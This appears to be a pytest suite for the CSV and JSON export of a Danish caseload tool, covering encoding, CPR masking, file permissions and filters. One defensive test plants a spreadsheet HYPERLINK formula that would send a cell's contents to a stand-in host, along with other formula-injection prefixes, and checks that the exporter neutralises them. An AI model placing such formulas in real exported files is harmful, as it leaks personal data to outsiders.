"""`sagsdag export csv caseload|deadlines`: read back the way Danish Excel would see it."""

from __future__ import annotations

import csv
import re
import stat
from pathlib import Path

import pytest

CASELOAD_HEADER = ["Navn", "CPR", "Næste samtale", "Dage tilbage", "Status", "Sidste kontakt",
                   "Dage siden kontakt", "Åbne punkter"]
DEADLINES_HEADER = ["Navn", "CPR", "Næste samtale", "Dage tilbage", "Status", "Begrundelse", "Fraværsdage", "Interval"]
DANISH_DATE = re.compile(r"^(\d\d-\d\d-\d{4})?$")


def export(run_cli, db: Path, target: Path, table: str, *extra: str) -> list[list[str]]:  # type: ignore[no-untyped-def]
    code, _, err = run_cli("export", "csv", table, str(target), "--db", str(db), *extra)
    assert code == 0, err
    with target.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


@pytest.mark.parametrize(("table", "header", "count"), [
    ("caseload", CASELOAD_HEADER, "count_caseload"),
    ("deadlines", DEADLINES_HEADER, "count_deadlines"),
])
def test_every_active_citizen_in_a_danish_sheet(run_cli, demo_db, demo_store, tmp_path, table, header, count) -> None:
    target = tmp_path / f"{table}.csv"
    rows = export(run_cli, demo_db, target, table)
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == len(rows) and b"\n" not in raw.replace(b"\r\n", b"")
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert rows[0] == header
    body = rows[1:]
    assert len(body) == getattr(demo_store, count)() > 0
    for row in body:
        assert len(row) == len(header)
        assert re.fullmatch(r"\d{6}-XXXX", row[1]), row[1]
        assert DANISH_DATE.match(row[2])
    if table == "caseload":
        assert all(DANISH_DATE.match(r[5]) for r in body)
    assert any(ch in "".join(r[0] for r in body) for ch in "æøåÆØÅ")
    assert {r[4] for r in body} <= {"for sent", "snart", "ok", ""}


def test_more_than_a_pane_page(run_cli, tmp_path) -> None:
    """A pane fetches 200 rows at a time; the spreadsheet must hold the whole caseload."""
    from store.facade import Store
    from tui.panes.base import PAGE

    db = tmp_path / "big.db"
    assert run_cli("demo", "--citizens", str(PAGE + 40), "--db", str(db))[0] == 0
    store = Store.open(db)
    try:
        active = store.count_caseload()
    finally:
        store.close()
    assert active > PAGE
    assert len(export(run_cli, db, tmp_path / "c.csv", "caseload")) == 1 + active


def test_danish_letters_survive(run_cli, demo_db, demo_store, tmp_path) -> None:
    from store.commands import citizens

    first = demo_store.caseload(limit=None)[0]
    demo_store.execute(citizens.EditCitizen(citizen_id=first.citizen_id, changes={"name": "Åse Ærø-Søgård"}))
    rows = export(run_cli, demo_db, tmp_path / "c.csv", "caseload")
    assert "Åse Ærø-Søgård" in {r[0] for r in rows}
    assert "Åse Ærø-Søgård".encode("utf-8") in (tmp_path / "c.csv").read_bytes()


def test_full_cpr_only_when_asked(run_cli, demo_db, demo_store, tmp_path) -> None:
    rows = export(run_cli, demo_db, tmp_path / "d.csv", "deadlines", "--full-cpr")
    assert {r[1] for r in rows[1:]} == {r.cpr for r in demo_store.deadlines(limit=None)}
    masked = (tmp_path / "m.csv")
    export(run_cli, demo_db, masked, "deadlines")
    text = masked.read_text(encoding="utf-8-sig")
    assert not any(r.cpr in text or r.cpr[7:] + ";" in text for r in demo_store.deadlines(limit=None))


def test_formula_names_are_neutralised(run_cli, demo_db, demo_store, tmp_path) -> None:
    from store.commands import citizens

    evil = '=HYPERLINK("http://example.invalid/?x="&A1;"klik")'
    first, second = demo_store.caseload(limit=None)[:2]
    demo_store.execute(citizens.EditCitizen(citizen_id=first.citizen_id, changes={"name": evil}))
    demo_store.execute(citizens.EditCitizen(citizen_id=second.citizen_id, changes={"name": "@SUM(1+1)"}))
    for table in ("caseload", "deadlines"):
        names = {r[0] for r in export(run_cli, demo_db, tmp_path / f"{table}.csv", table)}
        assert "'" + evil in names and "'@SUM(1+1)" in names
        assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_dangerous_first_characters(value: str) -> None:
    from store.exports import cells

    assert cells.text(value) == "'" + value
    assert cells.text("Anna " + value) == "Anna " + value


def test_negative_days_stay_numbers(run_cli, demo_db, tmp_path) -> None:
    rows = export(run_cli, demo_db, tmp_path / "d.csv", "deadlines")
    assert any(r[3].startswith("-") for r in rows[1:])  # the demo has overdue citizens
    assert all(re.fullmatch(r"-?\d+", r[3]) for r in rows[1:])


def test_english_headers(run_cli, demo_db, tmp_path) -> None:
    rows = export(run_cli, demo_db, tmp_path / "c.csv", "caseload", "--lang", "en")
    assert rows[0][:3] == ["Name", "CPR", "Next meeting"]


def test_caseworker_filter(run_cli, demo_db, demo_store, tmp_path) -> None:
    from sqlalchemy import update

    from store.db.models import Citizen

    with demo_store.engine.begin() as conn:
        conn.execute(update(Citizen).values(caseworker="Bente"))
        conn.execute(update(Citizen).where(Citizen.id.in_([r.citizen_id for r in demo_store.caseload(limit=3)]))
                     .values(caseworker="Ali"))
    assert len(export(run_cli, demo_db, tmp_path / "c.csv", "caseload", "--caseworker", "Ali")) == 1 + 3


def test_unwritable_target(run_cli, demo_db, tmp_path) -> None:
    target = tmp_path / "nowhere" / "c.csv"
    code, _, err = run_cli("export", "csv", "caseload", str(target), "--db", str(demo_db), "--lang", "en")
    assert code == 2
    assert f"cannot write {target}" in " ".join(err.split())


def test_json_export_still_works(run_cli, demo_db, tmp_path) -> None:
    import json

    target = tmp_path / "all.json"
    code, _, err = run_cli("export", "json", str(target), "--db", str(demo_db))
    assert code == 0, err
    assert json.loads(target.read_text(encoding="utf-8"))
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
